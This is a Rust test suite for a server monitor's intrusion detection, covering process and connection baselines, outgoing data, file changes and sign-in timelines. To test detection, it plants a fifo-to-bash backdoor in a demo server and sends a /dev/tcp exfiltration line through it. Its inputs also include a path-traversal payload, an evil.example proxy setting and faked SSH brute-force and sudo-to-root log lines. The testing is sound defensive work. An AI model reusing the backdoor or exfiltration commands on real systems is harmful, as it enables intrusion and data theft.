//! Tests that an intruder is seen beside the baseline of a server: processes, connections, what leaves, files, sign-ins; that
//! nothing is seen where nobody is; and that all of it is one picture.

use std::fs;
use std::io::Read as _;
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::thread;

use process::Signal;
use serde_json::{Value, json};

use crate::client::ask;
use crate::foreign::Foreign;
use crate::poll::eventually;
use crate::site::{EXE, Ran, Server, Setup, Site, clean, free_port, run};

/// A server that has a hole: whatever comes through a pipe is run by a shell that it does not have otherwise.
fn weak(site_tables: &str) -> (Site, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    let hole = folder.path().join("hole");
    rustix::fs::mkfifoat(rustix::fs::CWD, &hole, rustix::fs::Mode::RWXU).unwrap();
    let script =
        format!("(read -r line <{0} && bash -c \"$line\") & exec {EXE} demo-server notes", hole.display());
    let server = Server::new("notes", &["dash", "-c", &script]).with("guard_settings = \"notes.toml\"");
    let site = Site::of(&Setup { tables: site_tables, servers: &[server], ..Setup::default() });
    fs::write(site.path("notes.toml"), "[security]\nblock = [\"path_traversal\"]\n").unwrap();
    (site, folder)
}

/// What `security check` says, as the rules that found it.
fn rules(site: &Site) -> Vec<String> {
    let ran = site.run(&["security", "check", "notes", "-o", "json"]);
    let signs: Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran:?}"));
    let rule =
        |sign: &Value| format!("{} {}", sign["certainty"].as_str().unwrap(), sign["rule"].as_str().unwrap());
    signs.as_array().unwrap().iter().map(rule).collect()
}

#[test]
fn a_shell_with_a_live_connection_and_what_leaves_over_it() {
    let (mut site, folder) = weak("[intrusion]\nevery = \"200ms\"");
    site.serve_until_ready(&["notes"]);
    let before = site.run(&["security", "check", "notes"]).done();
    assert!(!before.contains("certain"), "{before}");
    let learned = site.run(&["security", "baseline", "notes"]).done();
    assert!(learned.contains("2 programs"), "{learned}");
    let none: [String; 0] = [];
    assert_eq!(rules(&site), none);
    // Somebody far away takes what comes.
    let far = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = far.local_addr().unwrap().port();
    thread::spawn(move || {
        let (mut stream, _) = far.accept().unwrap();
        let mut piece = [0; 64 << 10];
        while let Ok(1..) = stream.read(&mut piece) {}
    });
    let line = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; head -c 50000000 /dev/zero >&3; read -r x <&3\n");
    fs::write(folder.path().join("hole"), line).unwrap();
    let query = |attack: &str, certainty: &str| {
        let query = format!("paramedic_intrusion_signs{{attack=\"{attack}\",certainty=\"{certainty}\"}} > 0");
        eventually(&query, || {
            let ran = site.run(&["query", &query, "-o", "json"]);
            ran.stdout.contains("\"notes\"").then_some(())
        });
    };
    query("foreign_process", "certain");
    query("data_leaving", "likely");
    assert!(rules(&site).contains(&"certain shell".to_owned()), "{:?}", rules(&site));
    site.run(&["security", "check", "notes"]).failed(1, &[]);
    // It is written down once, with the bytes, however often it is looked at.
    let log = fs::read_to_string(site.path("data/security-incidents.log")).unwrap();
    let lines: Vec<Value> = log.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let of = |rule: &str| lines.iter().filter(|line| line["rule"] == rule).collect::<Vec<_>>();
    assert_eq!(of("shell").len(), 1, "{log}");
    assert!(of("shell")[0]["message"].as_str().unwrap().contains(&format!("127.0.0.1:{port}")), "{log}");
    assert!(of("data_to_a_new_peer")[0]["raw"].as_str().unwrap().contains("bytes to 127.0.0.1"), "{log}");
    // It is no error of security, which would page somebody: a person decides that.
    let counted = site.run(&["query", "mcp_server_errors_total{error_type=\"security\"} > 0", "-o", "json"]);
    assert!(!counted.stdout.contains("\"notes\""), "{counted:?}");
    // What is over is in the picture all the same, with how much has left.
    site.kill("notes");
    let picture = eventually("the shell is gone", || {
        let ran = site.run(&["security", "timeline", "notes", "--since", "1h", "-o", "json"]);
        let picture: Value =
            serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran:?}"));
        (!rules(&site).contains(&"certain shell".to_owned())).then_some(picture)
    });
    let reached =
        |what: &str| picture["impact"].as_array().unwrap().iter().find(|one| one["what"] == what).unwrap();
    assert!(reached("data_left")["bytes"].as_u64().unwrap() >= 33_000_000, "{picture}");
    assert_eq!((&reached("processes")["is_certain"], &reached("files")["signs"]), (&json!(true), &json!(0)));
    site.end_serve(Signal::TERM);
}

#[test]
fn files_of_a_server_are_compared_until_a_person_says_that_they_are_right() {
    let own = tempfile::tempdir().unwrap();
    let settings = own.path().join("settings.json");
    fs::write(&settings, "{}").unwrap();
    let (mut site, _folder) = weak(&format!("[intrusion]\nown = [{:?}]", own.path()));
    site.serve_until_ready(&["notes"]);
    site.run(&["security", "baseline", "notes"]).done();
    let none: [String; 0] = [];
    assert_eq!(rules(&site), none);
    fs::write(&settings, "{\"proxy\": \"evil.example\"}").unwrap();
    fs::write(own.path().join("more.json"), "{}").unwrap();
    assert_eq!(rules(&site), ["likely own_file", "likely own_file"]);
    site.run(&["security", "baseline", "notes"]).done();
    assert_eq!(rules(&site), none);
    site.run(&["security", "baseline", "notes", "--undo"]).done();
    assert_eq!(rules(&site), ["likely own_file", "likely own_file"]);
    // What is no baseline is said, and nothing is taken for right.
    fs::write(site.path("data/security/notes.json"), "{").unwrap();
    site.run(&["security", "check", "notes"]).failed(2, &["is no baseline", "security baseline"]);
    site.run(&["security", "check", "nobody"]).failed(2, &["`nobody` is no server"]);
}

/// Runs a command where the log of sign-ins is this one; nothing where that cannot be done here.
pub(crate) fn with_sign_ins(site: &Site, log: &str, args: &str) -> Option<Ran> {
    fs::write(site.path("auth.log"), log).unwrap();
    let script = format!(
        "mount --make-rprivate / && mount -t tmpfs none /var/log && cp {} /var/log/auth.log && exec {EXE} {args} --config {}",
        site.path("auth.log").display(),
        site.config().display()
    );
    let mut command = Command::new("unshare");
    clean(&mut command, &site.path("."));
    command.args(["--mount", "sh", "-c", &script]).stdin(Stdio::null());
    let ran = run(command);
    if ran.stderr.contains("unshare") || ran.stderr.contains("mount:") {
        println!("SKIPPED: no mount namespace: {}", ran.stderr);
        return None;
    }
    Some(ran)
}

/// Guessing, then a success, then root: in the log of a machine that is this one in all but its log.
#[test]
fn guessing_and_then_a_success_are_one_picture_with_what_the_guard_refused() {
    let (mut site, _folder) = weak("");
    site.serve_until_ready(&["notes"]);
    site.run(&["security", "baseline", "notes"]).done();
    let refused =
        ask(&site.endpoint("notes"), "add_note", &json!({"text": "x", "path": "../../../etc/passwd"}))
            .unwrap_err();
    assert!(refused.contains("path_traversal"), "{refused}");
    let now = chrono::Utc::now();
    let line = |seconds: i64, text: &str| {
        let at = now + chrono::TimeDelta::seconds(seconds);
        format!("{} host {text}\n", at.to_rfc3339_opts(chrono::SecondsFormat::Micros, true))
    };
    let mut log: String = (0..6)
        .map(|n| line(n, "sshd[7]: Failed password for root from 203.0.113.7 port 40000 ssh2"))
        .collect();
    log += &line(7, "sshd[7]: Accepted password for deploy from 203.0.113.7 port 40000 ssh2");
    log += &line(8, "sudo:   deploy : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash");
    let inside = |args: &str| with_sign_ins(&site, &log, args);
    let Some(ran) = inside("security timeline notes --since 1h -o json") else { return };
    let picture: Value = serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {ran:?}"));
    let attacks: Vec<String> = picture["attacks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|one| format!("{} {}", one["attack"].as_str().unwrap(), one["confidence"].as_str().unwrap()))
        .collect();
    for expected in
        ["path_traversal high", "stolen_access high", "privilege_escalation high", "guessing medium"]
    {
        assert!(attacks.iter().any(|attack| attack == expected), "{expected}: {attacks:?}");
    }
    let sources: Vec<&str> =
        picture["timeline"].as_array().unwrap().iter().map(|row| row["source"].as_str().unwrap()).collect();
    assert!(sources.contains(&"guard") && sources.contains(&"/var/log/auth.log"), "{sources:?}");
    assert!(!picture["not_known"].as_array().unwrap().is_empty());
    // For people as well, and nothing of it moves their cursor.
    let shown = inside("security timeline notes --since 1h").unwrap();
    assert!(shown.stdout.contains("not known:") && shown.stdout.contains("203.0.113.7"), "{shown:?}");
    site.end_serve(Signal::TERM);
}

#[test]
fn a_server_without_a_guard_is_whoever_listens_for_it() {
    let address = format!("127.0.0.1:{}", free_port());
    let port = address.rsplit_once(':').unwrap().1;
    let far = format!("[[server]]\nname = \"far\"\nport = {port}\nupstream = \"http://{address}/mcp\"\n");
    let site = Site::of(&Setup { servers: &[Server::notes("notes").with(&far)], ..Setup::default() });
    let _far = Foreign::start(&site, "far", "sums", &address);
    let _peer = eventually("it listens", || TcpStream::connect(&address).ok());
    let learned = site.run(&["security", "baseline", "far"]).done();
    assert!(learned.contains("programs") && !learned.contains("no process"), "{learned}");
    let checked = site.run(&["security", "check", "far"]);
    assert!(checked.code == Some(0) && !checked.stderr.contains("no process"), "{checked:?}");
    let collected = site.run(&["evidence", "collect", "far", "--depth", "t0", "-o", "json"]).done();
    let collected: Value = serde_json::from_str(&collected).unwrap();
    let folder = collected[0]["folder"].as_str().unwrap();
    let manifest = fs::read_to_string(format!("{folder}/manifest.jsonl")).unwrap();
    assert!(manifest.contains("t0/server/peers.jsonl"), "{manifest}");
}

/// A day of ordinary work, as fast as it goes: calls, restarts, a person who mistypes, files that are written.
#[test]
fn ordinary_work_is_no_intrusion() {
    let (mut site, _folder) = weak("[intrusion]\nevery = \"100ms\"");
    site.serve_until_ready(&["notes"]);
    site.run(&["security", "baseline", "notes"]).done();
    for n in 0..40 {
        ask(&site.endpoint("notes"), "add_note", &json!({ "text": format!("note {n}") })).unwrap();
        if n % 20 == 10 {
            site.run(&["server", "restart", "notes"]).done();
            site.ready("notes");
        }
    }
    let none: [String; 0] = [];
    assert_eq!(rules(&site), none);
    assert!(site.incidents().is_empty());
    assert!(!site.path("data/security-incidents.log").exists());
}
